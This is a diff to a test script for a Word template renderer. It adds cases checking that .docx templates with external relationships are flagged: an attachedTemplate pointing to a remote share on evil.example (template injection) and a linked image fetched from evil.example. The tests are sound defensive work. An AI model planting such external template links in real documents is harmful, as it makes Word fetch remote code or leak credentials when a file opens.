@@ -145,6 +145,13 @@ def decoy(content_type, decoy_text=DECOY):
     return make
 
 
+
+EXT_REL = ('<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
+           'Target="%s" TargetMode="External"/>')
+EXT_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            + EXT_REL + '</Relationships>')
+
 def part_edit(part, f):
     """A template whose part is changed by f (text to text)."""
     def edit(name, data):
@@ -269,6 +276,14 @@ def main():
                                              'drawingml/2006/wordprocessingDrawing"><wp:docPr id="9" name="x" descr="{{subject}}"/>'
                                              '</wp:inline></w:drawing></w:r></w:p>'), 1,
          r'the placeholder \{\{subject\}\} is in the attribute descr of <wp:docPr>'),
+        # 9. links that make Word fetch something when a letter opens (template injection)
+        ('attached-template', lambda s, d: rezip(s, d, lambda n, x: x if n else [(
+            'word/_rels/settings.xml.rels', EXT_RELS % ('attachedTemplate', r'file://\\evil.example\share\t.dotm'))]), 1,
+         r'attached-template\.docx: word/_rels/settings\.xml\.rels links its attachedTemplate to "file://.*evil\.example.*" outside the file'),
+        ('linked-picture', lambda s, d: rezip(s, d, lambda n, x: x.replace(
+            b'</Relationships>', (EXT_REL % ('image', 'http://evil.example/p.png')).encode() + b'</Relationships>')
+            if n == 'word/_rels/document.xml.rels' else (x if n else None)), 1,
+         r'word/_rels/document\.xml\.rels links its image to "http://evil\.example/p\.png" outside the file'),
         # 8. control characters and bidi overrides in a quoted name
         ('control-in-name', before_body(para('{{ag\tency\u202e}}')), 1,
          r'unknown placeholder \{\{ag\\x09ency<U\+202E>\}\}'),
@@ -312,6 +327,13 @@ def main():
         fake = z.read('word/document.xml').decode() if z else ''
         check(sound and 'REAL' in real and 'trân trọng kính mời' in real and '{{' not in real
               and 'DECOY' in fake, 'decoy: word/main.xml (named by _rels/.rels) is filled, not word/document.xml')
+
+        # 9. a hyperlink may point outside: Word follows it only when clicked
+        sound, z = render_ok('external-hyperlink', lambda s, d: rezip(s, d, lambda n, x: x.replace(
+            b'</Relationships>', (EXT_REL % ('hyperlink', 'https://moet.gov.vn/')).encode() + b'</Relationships>')
+            if n == 'word/_rels/document.xml.rels' else (x if n else None)))
+        check(sound and b'https://moet.gov.vn/' in (z.read('word/_rels/document.xml.rels') if z else b''),
+              'an external hyperlink in a template is kept')
 
         # 6. placeholders in a header are filled like the body
         sound, z = render_ok('header-filled', HEADER_FILLED)
